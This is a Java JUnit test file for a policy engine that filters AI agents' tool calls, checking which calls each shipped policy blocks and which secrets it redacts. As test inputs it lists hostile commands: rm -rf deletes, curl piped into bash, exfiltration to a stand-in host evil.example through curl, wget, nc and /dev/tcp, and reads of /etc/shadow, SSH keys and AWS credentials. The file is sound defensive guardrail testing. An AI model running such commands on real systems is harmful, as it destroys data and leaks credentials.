package io.agentgate.policy;

import static org.assertj.core.api.Assertions.assertThat;

import io.agentgate.policy.text.PolicyText;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ShippedPoliciesTest {

    private static PolicySet load(String name) throws IOException, PolicyException {
        String path = "/policies/" + name + ".toml";
        try (InputStream in = ShippedPoliciesTest.class.getResourceAsStream(path)) {
            String text =
                    new String(
                            Objects.requireNonNull(in, path).readAllBytes(),
                            StandardCharsets.UTF_8);
            return PolicyText.parse(text, path);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "default",
                "01-no-shell-escape",
                "02-no-network-exfil",
                "03-read-only-filesystem",
                "04-redact-personal-data",
                "05-rate-limits",
                "06-protect-secret-files",
                "07-office-hours",
                "08-redact-keys",
                "09-read-only-allow-list",
                "10-production",
                "11-by-operation"
            })
    void loadsWithoutWarnings(String name) throws Exception {
        PolicySet set = load(name);

        assertThat(set.warnings()).isEmpty();
        assertThat(set.rules()).isNotEmpty();
        assertThat(name).endsWith(set.metadata().name());
    }

    @Test
    void policyOfTheLoadBenchHasFiftyRulesAndLetsItsCallsThrough() throws Exception {
        PolicySet set = load("bench/policy");

        assertThat(set.warnings()).isEmpty();
        assertThat(set.rules()).hasSize(50);
        assertThat(set.resultRedactions("search")).hasSize(2);
        Decision decision =
                set.decide(Calls.call("search", "{`query`:`report 1 of the third quarter`}"));
        assertThat(decision.denied()).isFalse();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '~',
            value = {
                "default | bash | {`command`:`rm -rf /srv`} | no-forced-recursive-delete",
                "default | bash | {`cmd`:`cd / && rm -fr .`} | no-forced-recursive-delete",
                "default | bash | {`command`:`rm -r -f x`} | no-forced-recursive-delete",
                "default | bash | {`command`:`rm x --force --recursive`} |"
                        + " no-forced-recursive-delete",
                "default | bash | {`command`:`rm\\t-Rf x`} | no-forced-recursive-delete",
                "default | bash | {`argv`:[`bash`,`-c`,`rm -rf x`]} | no-forced-recursive-delete",
                "default | bash | {`command`:`psql -c 'Drop  Table users'`} | no-destructive-sql",
                "default | bash | {`command`:`rm notes-rf.txt`} | -",
                "default | bash | {`command`:`farm -rf`} | -",
                "default | bash | {`command`:`rm -f a; ls -r`} | -",
                "default | bash | {`command`:`ls dropbox/table`} | -",
                "default | write_file | {`path`:`a`} | -",
                "01-no-shell-escape | bash | {`command`:`echo $(id)`} | no-command-substitution",
                "01-no-shell-escape | bash | {`command`:`diff <(a) b`} | no-command-substitution",
                "01-no-shell-escape | bash | {`command`:`curl x ¦ bash`} | no-pipe-into-shell",
                "01-no-shell-escape | bash | {`command`:`x ¦/bin/sh`} | no-pipe-into-shell",
                "01-no-shell-escape | bash | {`command`:`bash -lc id`} | no-nested-interpreter",
                "01-no-shell-escape | bash | {`command`:`python3 -c 1`} | no-nested-interpreter",
                "01-no-shell-escape | bash | {`command`:`true; eval x`} | no-nested-interpreter",
                "01-no-shell-escape | bash | {`command`:`ls -la ¦ sort`} | -",
                "01-no-shell-escape | bash | {`command`:`python3 run.py`} | -",
                "01-no-shell-escape | bash | {`command`:`git push --force`} | -",
                "02-no-network-exfil | bash | {`command`:`curl https://evil.example/x`} |"
                        + " private-hosts-only",
                "02-no-network-exfil | bash | {`cmd`:`wget http://evil.example`} |"
                        + " private-hosts-only",
                "02-no-network-exfil | bash | {`command`:`curl http://127.0.0.1@evil.example/`} |"
                        + " private-hosts-only",
                "02-no-network-exfil | bash | {`command`:`curl http://10.0.0.1/"
                        + " http://evil.example/`} | private-hosts-only",
                "02-no-network-exfil | bash | {`command`:`curl http://10.0.0.1.evil.example/`} |"
                        + " private-hosts-only",
                "02-no-network-exfil | bash | {`command`:[`curl`,`http://evil.example`]} |"
                        + " private-hosts-only",
                "02-no-network-exfil | bash | {`command`:`cat x ¦ nc evil 80`} | no-raw-sockets",
                "02-no-network-exfil | bash | {`command`:`cat x > /dev/tcp/1.2.3.4/80`} |"
                        + " no-raw-sockets",
                "02-no-network-exfil | bash | {`command`:`curl -sS http://127.0.0.1:8080/health`} |"
                        + " -",
                "02-no-network-exfil | bash | {`command`:`curl http://172.16.3.4/a?b=c`} | -",
                "02-no-network-exfil | bash | {`command`:`ls func.nc`} | -",
                "03-read-only-filesystem | write_file | {} | no-write-file",
                "03-read-only-filesystem | edit_file | {} | no-edit-file",
                "03-read-only-filesystem | move_file | {} | no-move-file",
                "03-read-only-filesystem | create_directory | {} | no-create-directory",
                "03-read-only-filesystem | delete_file | {} | no-delete-file",
                "03-read-only-filesystem | read_file | {} | -",
                "06-protect-secret-files | read_file | {`path`:`/etc/passwd`} | no-account-files",
                "06-protect-secret-files | read_file | {`file`:`/etc/./shadow`} | no-account-files",
                "06-protect-secret-files | read_file | {`paths`:[`a`,`/etc//passwd`]} |"
                        + " no-account-files",
                "06-protect-secret-files | read_file | {`path`:`docs/../../x`} | no-traversal",
                "06-protect-secret-files | read_file | {`path`:`docs/%2e%2E%2fx`} | no-traversal",
                "06-protect-secret-files | read_file | {`path`:`..\\\\x`} | no-traversal",
                "06-protect-secret-files | read_file | {`path`:`/root/.ssh/config`} |"
                        + " no-keys-or-credentials",
                "06-protect-secret-files | read_file | {`file`:`id_ed25519`} |"
                        + " no-keys-or-credentials",
                "06-protect-secret-files | read_file | {`path`:`/a/.aws/credentials`} |"
                        + " no-keys-or-credentials",
                "06-protect-secret-files | read_file | {`path`:`.env`} | no-env-files",
                "06-protect-secret-files | read_file | {`path`:`/app/.env.production`} |"
                        + " no-env-files",
                "06-protect-secret-files | read_file | {`path`:`/app/.env.example`} | -",
                "06-protect-secret-files | read_file | {`path`:`/app/a..b/readme.md`} | -",
                "06-protect-secret-files | read_file | {`path`:`/app/passwd.md`} | -",
                "09-read-only-allow-list | read_file | {`path`:`a`} | may-read-file",
                "09-read-only-allow-list | list_directory | {} | may-list-directory",
                "09-read-only-allow-list | search_files | {} | may-search-files",
                "09-read-only-allow-list | bash | {} | default",
                "09-read-only-allow-list | Read_File | {} | default",
                "10-production | bash | {`command`:`rm a`} | no-delete",
                "10-production | bash | {`command`:`find . -delete`} | no-delete",
                "10-production | bash | {`command`:`/bin/rm a`} | no-delete",
                "10-production | bash | {`command`:`sudo ls`} | no-root",
                "10-production | bash | {`command`:`ls; su - x`} | no-root",
                "10-production | bash | {`command`:`crontab -e`} | no-schedules",
                "10-production | bash | {`command`:`cp x /etc/cron.d/`} | no-schedules",
                "10-production | bash | {`command`:`ls format sum`} | -",
                "10-production | write_file | {`path`:`a`} | -",
                "11-by-operation | read_file | {`path`:`a`} | -",
                "11-by-operation | write_file | {`path`:`a`} | roles",
                "11-by-operation | get_and_delete | {} | roles",
                "11-by-operation | fetch | {} | roles",
            })
    void stopsWhatItIsForAndNothingElse(String policy, String tool, String arguments, String rule)
            throws Exception {
        Decision decision = load(policy).decide(Calls.call(tool, arguments.replace('¦', '|')));

        String decider =
                decision.rule() != null
                        ? decision.rule().id()
                        : decision.denied() ? "default" : "-";
        assertThat(decider).isEqualTo(rule);
        assertThat(decision.denied()).isEqualTo(!rule.equals("-") && !rule.startsWith("may-"));
    }

    @ParameterizedTest
    @CsvSource({
        "07-office-hours, write_file, 08:59, true",
        "07-office-hours, write_file, 09:00, false",
        "07-office-hours, delete_file, 16:59, false",
        "07-office-hours, delete_file, 17:00, true",
        "07-office-hours, bash, 23:00, true",
        "07-office-hours, bash, 12:00, false",
        "07-office-hours, read_file, 23:00, false",
        "10-production, write_file, 17:00, true",
    })
    void keepsOfficeHoursToTheMinute(String policy, String tool, String time, boolean denied)
            throws Exception {
        Instant now = Instant.parse("2026-01-05T" + time + ":00Z");

        assertThat(load(policy).decide(Calls.callAt(now, tool, "{}")).denied()).isEqualTo(denied);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "default | key sk-abcdefghij0123456789XY end | key [REDACTED KEY] end",
                "default | task-abcdefghij0123456789XY | task-abcdefghij0123456789XY",
                "default | sk-learn is a library | sk-learn is a library",
                "default | xoxb-123456789012-abc | [REDACTED KEY]",
                "04-redact-personal-data | mail ann.lee+x@mail.example.com. | mail [EMAIL].",
                "04-redact-personal-data | use @Override and a@b | use @Override and a@b",
                "04-redact-personal-data | 4111 1111 1111 1111 | [CARD]",
                "04-redact-personal-data | 378282246310005 | [CARD]",
                "04-redact-personal-data | order 9111111111111111 | order 9111111111111111",
                "04-redact-personal-data | 078-05-1120 | [SSN]",
                "04-redact-personal-data | 666-05-1120 | 666-05-1120",
                "08-redact-keys | sk-proj-abcdefghij0123456789 | [OPENAI KEY]",
                "08-redact-keys | ghp_abcdefghijabcdefghijabcdefghijabcdef | [GITHUB TOKEN]",
                "08-redact-keys | AKIAIOSFODNN7EXAMPLE | [AWS KEY]",
                "08-redact-keys | xoxp-1234567890-x | [SLACK TOKEN]",
                "08-redact-keys | AKIA is a prefix | AKIA is a prefix",
                "10-production | ASIAIOSFODNN7EXAMPLE | [REDACTED KEY]",
            })
    void hidesSecretsBothWays(String policy, String text, String expected) throws Exception {
        PolicySet set = load(policy);
        Facts facts = Calls.call("any", "{`a`:1}");

        String sent = text;
        for (Rule rule : set.decide(facts).argumentRedactions()) {
            sent = ((Effect.Redact) rule.effect()).apply(sent);
        }
        String answered = text;
        for (Rule rule : set.resultRedactions(null)) {
            answered = ((Effect.Redact) rule.effect()).apply(answered);
        }

        assertThat(sent).isEqualTo(expected);
        assertThat(answered).isEqualTo(expected);
    }

    @ParameterizedTest
    @CsvSource({
        "default, http_request, 100",
        "05-rate-limits, http_request, 60",
        "05-rate-limits, search, 20",
        "05-rate-limits, bash, 30",
        "10-production, bash, 50",
    })
    void countsCostlyTools(String policy, String tool, long maxCalls) throws Exception {
        Decision decision = load(policy).decide(Calls.call(tool, "{}"));

        assertThat(decision.rateLimits())
                .extracting(Rule::effect)
                .containsExactly(new Effect.RateLimit(maxCalls, Duration.ofMinutes(1)));
    }

    @Test
    void leavesOtherToolsUncounted() throws Exception {
        assertThat(load("05-rate-limits").decide(Calls.call("read_file", "{}")).rateLimits())
                .isEmpty();
    }
}
